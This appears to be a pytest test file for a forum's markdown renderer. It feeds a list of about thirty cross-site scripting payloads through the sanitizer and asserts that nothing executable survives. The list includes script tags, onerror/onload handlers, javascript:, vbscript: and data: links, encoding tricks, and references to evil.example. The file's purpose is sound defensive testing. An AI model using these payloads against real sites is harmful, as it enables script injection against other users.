"""Nothing a member types is stored in a form that executes: a payload list against posts."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from forum.discussions.models import Post
from forum.discussions.services import render_body
from forum.extensions import db
from forum.markup import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from tests.factories import make_group, make_membership, make_user
from tests.factories_discussions import make_thread, root_post
from tests.helpers import login, post

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "`<script>alert(1)</script>`",
    '<form action="https://evil.example"><button>go</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
]
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name.startswith("on") or name not in ALLOWED_ATTRIBUTES.get(tag, []):
                self.problems.append(f"attribute {name} on {tag}")
            squashed = "".join((value or "").split()).lower()
            if name in ("href", "src") and squashed.startswith(BAD_SCHEMES):
                self.problems.append(f"{name}={value}")
            if tag == "a" and name == "rel" and value != "nofollow ugc noopener":
                self.problems.append(f"rel={value}")


def audit(html: str) -> list[str]:
    parser = _Audit()
    parser.feed(html)
    return parser.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_renders_to_nothing_that_executes(app, payload):
    html = render_body(payload)
    assert audit(html) == [], html
    assert "<script" not in html.lower()


def test_raw_html_typed_in_a_post_shows_as_text(app):
    html = render_body("Use <b>bold</b> like this")
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_links_say_they_are_user_content(app):
    html = render_body("[site](https://example.org) and @nobody")
    assert 'rel="nofollow ugc noopener"' in html and 'href="https://example.org"' in html


def test_bare_urls_become_user_content_links_at_write_time(app):
    html = render_body("See https://example.org/a?b=1&c=2. and http://x.test/<script>, "
                       "but not `https://code.example` nor setup.py, README.md or "
                       "bob@example.org; javascript:alert(1) stays text.")
    assert ('<a href="https://example.org/a?b=1&amp;c=2" rel="nofollow ugc noopener">'
            'https://example.org/a?b=1&amp;c=2</a>.') in html
    assert '<a href="http://x.test/" rel="nofollow ugc noopener">http://x.test/</a>' \
        '&lt;script&gt;' in html
    assert "<code>https://code.example</code>" in html
    assert html.count("<a ") == 2 and "javascript:" not in html.split("<a ")[1]
    # A bare URL inside link text or a mention stays as written (no link in a link).
    nested = render_body("[https://a.example](https://b.example)")
    assert nested.count("<a ") == 1


def test_posting_a_bare_url_stores_the_link(client, app):
    group = make_group(slug="pm")
    author = make_user(username="poster")
    make_membership(group=group, user=author)
    thread = make_thread(group=group, author=author)
    login(client, author)
    r = post(client, f"/g/pm/t/{thread.id}/reply",
             {"body": "Slides: https://example.org/slides",
              "parent_id": root_post(thread).id})
    assert r.status_code in (302, 303), r.get_data(as_text=True)[:500]
    stored = db.session.scalar(select(Post.html).where(Post.source.contains("Slides")))
    assert '<a href="https://example.org/slides" rel="nofollow ugc noopener">' in stored


def test_commonmark_features_survive_sanitizing(app):
    html = render_body("*em* **strong**\n\n> quote\n\n- item\n\n```\ncode\n```\n\n"
                       "| a | b |\n|---|---|\n| 1 | 2 |\n")
    for tag in ("<em>", "<strong>", "<blockquote>", "<li>", "<pre><code>", "<table>"):
        assert tag in html


def test_mentions_link_existing_members_only(app):
    make_user(username="priya")
    html = render_body("Thanks @priya and @ghost, see `@priya`")
    assert html.count('href="/members/priya"') == 1 and "@ghost" in html


def test_every_payload_posted_through_the_form_is_stored_harmless(client, app, monkeypatch):
    # (the link limit for new accounts is moderation's business, not this test's)
    monkeypatch.setattr("forum.permissions.posting.PostingPolicy.refusal", lambda p, s: None)
    group = make_group(slug="pm")
    author = make_user()
    make_membership(group=group, user=author)
    thread = make_thread(group=group, author=author)
    login(client, author)
    r = post(client, f"/g/pm/t/{thread.id}/reply", {"body": "\n\n".join(PAYLOADS)})
    assert r.status_code == 302
    stored = db.session.scalar(select(Post).where(Post.depth == 1))
    assert audit(stored.html) == []
    page = client.get(f"/g/pm/t/{thread.id}").get_data(as_text=True)
    assert "<script>alert" not in page and "<img src=x onerror" not in page
    assert "<svg" not in page and "<iframe" not in page
